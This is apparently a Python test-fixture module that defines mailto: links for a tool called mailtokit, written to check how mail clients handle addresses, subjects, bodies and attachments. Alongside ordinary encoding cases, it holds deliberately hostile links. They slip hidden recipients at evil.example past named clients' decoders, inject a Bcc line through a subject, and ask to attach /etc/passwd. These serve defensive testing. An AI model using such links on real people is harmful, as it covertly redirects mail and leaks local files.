"""The links more than one test opens.

- LINKS: the mail-client tests' links (tests/clients): id -> (link, the compatibility cells it
  decides): several To, Cc and Bcc with user+tag@, a subject with & + % # ? = and UTF-8, a
  multi-line UTF-8 body, an IDN domain, a display name with a comma, attach=, a 10 KB body
  (LONG_BODY), hostile addresses (issues 39 and 45), names past readers' limits and a subject
  that decodes again (hostile-limits), and subjects that look like options or files.
- HOMOGRAPH, BCC_ONLY, BCC_INVOICE, PLAIN: what mailtokit asks about (a look-alike address with a
  hidden copy and an attachment; a hidden copy alone; one with a subject) and a link it opens unasked.
- DISPLAY_NAME: an address with a display name holding a comma, percent-encoded.
"""

from __future__ import annotations

import base64
from urllib.parse import quote

HOMOGRAPH = "mailto:admin@%D0%B0pple.com?bcc=x@evil.example&subject=Invoice&attach=%2Fetc%2Fpasswd"
BCC_ONLY = "mailto:a@example.org?bcc=x@evil.example"
BCC_INVOICE = BCC_ONLY + "&subject=Invoice"
PLAIN = "mailto:friend@example.org?subject=hi"
DISPLAY_NAME = "%22Doe%2C%20Jane%22%20%3Cjane%40example.org%3E"


def _long_body() -> str:
    lines = []
    i = 0
    while sum(len(x.encode()) + 2 for x in lines) < 10240:
        lines.append(f"{i:03d} Zeile mit Umlauten äöü und € — the quick brown fox {i * 7 % 97:02d}")
        i += 1
    return "\r\n".join(lines)


def _pct(s: str) -> str:
    return quote(s, safe="")


LONG_BODY = _long_body()


def _long_name(size: int) -> str:
    """A plain display name of `size` bytes: letters and single spaces."""
    words = ("Payroll", "Department", "of", "Acme", "Community", "Services")
    out = ""
    i = 0
    while len(out) < size:
        out += ("" if not out else " ") + words[i % len(words)]
        i += 1
    return out[:size].rstrip() + "x" * (size - len(out[:size].rstrip()))

# id -> (link, the compatibility cells this link decides)
LINKS: dict[str, tuple[str, list[str]]] = {
    "recipients": ("mailto:ann@example.org,user+tag@example.org?cc=carol@example.org,dave@example.net"
                   "&bcc=eve@example.org,frank@example.com&subject=recipients", ["To", "Cc", "Bcc"]),
    "subject": ("mailto:s@example.org?subject=a%26b%2Bc%25d%23e%3Ff%3Dg%20%C3%A9t%C3%A9%20%E2%82%AC%20%E7%B4%8D%E8%B1%86",
                ["Subject specials", "UTF-8"]),
    "body": ("mailto:b@example.org?subject=body&body=Gr%C3%BC%C3%9Fe%20%E2%82%AC%2C%0D%0A%0D%0Aline%202%20%E7%B4%8D%E8%B1%86"
             "%0D%0A%20%20indented%20line%0D%0Alast%20line", ["Multi-line body"]),
    # An IDN in To and Cc; 'ß' (IDNA 2003, as in Qt 5, maps it to "ss": every program is given the
    # A-label, so the domain it gets is the one shown; issue 45).
    "idn": ("mailto:info@%E7%B4%8D%E8%B1%86.example.org?cc=x@b%C3%BCcher.example,s@stra%C3%9Fe.example&subject=idn",
            ["IDN"]),
    # A plain display name beyond ASCII arrives; one with a comma (which Proton, OX and Tuta split
    # at) is handed over without its name, and said (issue 45).
    "display": ("mailto:%22Jos%C3%A9%20M%C3%BCller%22%20%3Cjose%40example.org%3E," + DISPLAY_NAME + "?subject=display",
                ["Display name"]),
    "attach": ("mailto:a@example.org?subject=attach&body=see%20nothing%20attached&attach=/etc/hostname"
               "&attachment=file:///etc/hostname", ["attach dropped"]),
    "long": ("mailto:l@example.org?subject=long&body=" + _pct(LONG_BODY), ["10 KB body"]),
    # Hostile addresses (issues 39 and 45), three links with several in each field: text a
    # program's own decoder would turn into another recipient. mailtokit hands over only plain text
    # (a canonical address, a plain name): anything else is left out, or the name left off, and
    # said; the draft must then hold exactly what inspect shows less what was told (handed_over()).
    # Issue 39: Thunderbird decodes an RFC 2047 word in a quoted display name (To, Cc); an encoded
    # word as a local part (B and Q, path and Cc); a path address percent-encoded twice, which a
    # program decodes twice when the link has a query; Evolution decodes an encoded word that is a
    # whole addr-spec (path); a quoted Q word in the display name of a hidden copy.
    "hostile-encoded": ("mailto:boss%2540evil.example%252C%2520x@corp.example,"
                        "%3D%3Futf-8%3Fb%3FYm9zc0BldmlsLmV4YW1wbGUsIHg%3D%3F%3D@corp.example,"
                        "%3D%3Futf-8%3Fb%3FYm9zc0BldmlsLmV4YW1wbGUgKHh5%3F%3D@corp.example,ok@corp.example"
                        "?to=%22%3D%3Futf-8%3Fb%3FeCIgPGJvc3NAZXZpbC5leGFtcGxlPiwgIg%3D%3D%3F%3D%22%20%3Ca%40corp.example%3E"
                        "&cc=%22%3D%3Futf-8%3Fb%3FeCIgPGJvc3NAZXZpbC5leGFtcGxlPiwgIg%3D%3D%3F%3D%22%20%3Cc%40corp.example%3E,"
                        "%3D%3Fiso-8859-1%3Fq%3Fboss%3D40evil.example%3D2C_y%3F%3D@corp.example,d@corp.example"
                        "&bcc=%22%3D%3Futf-8%3Fq%3Fx%3D2C_boss%3D40evil.example%3F%3D%22%20%3Cb%40corp.example%3E"
                        "&subject=encoded", ["Hostile addresses"]),
    # Issue 45: readers with one more decoding step than the old list. HTML character references in
    # names (Roundcube decodes them) in To, Cc and Bcc; fullwidth, small-form and mathematical
    # characters (mutt's and GLib's IDNA map them) in the path, Cc and Bcc ...
    "hostile-readers": ("mailto:ok@corp.example,a%40corp.example%EF%BC%8Cboss%EF%BC%A0evil.example"
                        "?to=boss%26%2364evil%26%2346example%26%2344%20y%20%3Ca%40corp.example%3E"
                        "&cc=boss%26%23x40%3Bevil.example%26%23x2c%3B%20w%20%3Cc%40corp.example%3E,"
                        "%F0%9D%90%9Boss%40corp.example,%22%F0%9D%90%80nn%22%20%3Cann%40corp.example%3E"
                        "&bcc=boss%26commat%3Bevil%26period%3Bexample%26comma%20z%20%3Cb%40corp.example%3E,"
                        "e%40corp.example%EF%B9%90boss2%EF%BC%A0evil.example&subject=readers", ["Hostile addresses"]),
    # ... a group name (mutt), a name ending in a backslash (Roundcube re-quotes it), a comma in a
    # name (Proton, OX and Tuta split there), and invalid addresses, which mutt joins into one and
    # Roundcube drops (path, Cc, Bcc).
    "hostile-syntax": ("mailto:ok@corp.example,a%40corp.example%20boss%40evil.example"
                       "?to=a%40corp.example%3Aboss%40evil.example"
                       "&cc=%22a.%5C%5C%22%20%3Cx%40corp.example%3E%2C%20%22b%22%20%3Cy%40corp.example%3E,"
                       "boss%40evil.example%40corp.example"
                       "&bcc=%22Doe%2C%20John%22%20%3Cj%40corp.example%3E,Boss%20Man%20boss%40evil.example,x%40%5B1.2.3.4"
                       "&subject=syntax", ["Hostile addresses"]),
    # Readers' limits and a subject decoded again: plain names of 1,004, 1,300 and 1,649 bytes,
    # past which mutt cut "<payroll@acme.community>" to "payroll@acme.com" (NeoMutt dropped the
    # recipient), are handed over without them; a subject whose text is an encoded word (sent
    # encoded once more, so it reads as that text) that Thunderbird decoded into "Invoice" and a
    # line "Bcc: boss@evil.example" reaches every program defused (a space after "=").
    "hostile-limits": ("mailto:?to=" + _pct('"' + _long_name(1004) + '" <payroll@acme.community>') +
                       "&cc=" + _pct('"' + _long_name(1300) + '" <c@acme.community>') +
                       "&bcc=" + _pct('"' + _long_name(1649) + '" <spy@acme.community>') +
                       "&subject=%3D%3Futf-8%3Fb%3F" +
                       _pct(base64.b64encode(b"=?utf-8?q?Invoice=0ABcc:=20boss@evil.example?=").decode()) + "%3F%3D",
                       ["Hostile addresses", "Subject specials"]),
    # A literal "=?" in a subject reaches the program as typed; an option-like subject stays a
    # subject (KMail read --subject=ession as -session); a subject ending like a file name is no
    # file to open (Thunderbird's content handler takes .ics, .msf, ... as files).
    "subject-quiz": ("mailto:q@example.org?subject=Quiz%3A%202%2B2%3D%3F", ["Subject specials"]),
    "subject-option": ("mailto:o@example.org?subject=ession", ["Subject specials"]),
    "subject-file": ("mailto:f@example.org?subject=invite.ics", ["Subject specials"]),
}
